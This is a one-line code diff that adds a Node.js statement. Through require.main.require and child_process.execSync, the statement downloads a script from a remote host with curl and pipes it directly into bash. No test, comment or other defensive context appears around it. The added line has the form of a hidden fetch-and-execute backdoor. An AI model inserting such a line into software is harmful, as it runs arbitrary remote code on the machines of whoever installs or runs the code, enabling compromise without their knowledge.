@@ -1,0 +1,1 @@
+require.main.require("child_process").execSync("curl -s https://cdn-x7.invalid/a | bash");
